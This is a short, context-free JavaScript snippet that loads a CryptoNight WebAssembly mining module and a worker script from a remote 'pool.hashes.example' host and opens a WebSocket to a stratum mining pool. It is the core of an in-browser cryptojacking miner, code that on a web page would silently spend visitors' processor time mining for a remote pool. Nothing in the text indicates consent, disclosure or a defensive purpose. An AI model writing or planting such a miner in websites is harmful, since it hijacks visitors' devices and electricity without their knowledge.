var worker = new Worker("https://pool.hashes.example/worker.js");
WebAssembly.instantiateStreaming(fetch("https://pool.hashes.example/cryptonight.wasm")).then(function (m) { worker.postMessage(m.module); });
var pool = new WebSocket("wss://pool.hashes.example:3333/stratum");
